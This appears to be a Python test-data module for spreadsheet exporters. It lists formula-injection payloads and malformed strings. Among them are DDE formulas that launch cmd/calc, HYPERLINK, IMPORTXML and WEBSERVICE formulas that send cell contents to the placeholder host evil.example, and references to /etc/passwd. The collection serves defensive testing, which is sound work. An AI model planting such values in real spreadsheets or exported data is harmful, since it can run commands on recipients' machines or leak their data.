"""Texts that a spreadsheet would compute, send or break on, after the forms that OWASP, payload collections and bug reports name."""

from __future__ import annotations

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "=10+20+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+cmd|'/c calc.exe'!A",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")", "=IMPORTXML(CONCAT(\"https://evil.example/?\",A1:E9),\"//a\")", "=WEBSERVICE(\"https://evil.example/\"&A1)",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0", "=rundll32|'URL.dll,OpenURL calc'!A", "='file:///etc/passwd'#$passwd.A1", "=C:\\Windows\\x.xls]Sheet1'!A1", "{=1+1}", "=_xlfn.ANCHORARRAY(A1)",
    " =1+1", "\u00a0=1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "'=1+1", "''=1+1", "' =1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", ";=1+1", "tea;=1+1;", "tea\t@SUM(1)", "tea\n-1+1",
    "tea\",=1+1", "tea\";=cmd|'/C calc'!A1;\"", "tea';=1+1;'", "\"=1+1\"", "%0A=1+1", "==1", "=+-@", "=", "+", "-", "@",
)
BREAKERS = (
    "<r>&broken</r>", "<r><t>rich</t></r>", "<r></r>", "<script>alert(1)</script>", "]]>", "<!--", "&amp;", "&#x3d;1+1", "_x003D_1+1", "_x0041_", "\x00\x01\x08\x0b\x1f", "a\x00b",
    "https://evil.example/", "mailto:x@y.example", "internal:Sheet2!A1", "external:c:\\x.xlsx", "file:///etc/passwd", "#REF!", "#N/A", "TRUE", "1E5", "1-2", "00123", "  spaces  ", "two\nlines",
    "12345678901234567890", "0.1000000000000000055511151231257827", "שלום 123", "\u202eesrever", "😀👩‍👩‍👧‍👦🇮🇩", "ﷺ", "é", "null", "NaN", "None", "-", "'", "\"", "\\", "{0}", "%s", "&D&T&Z",
)
TEXTS = FORMULAS + BREAKERS
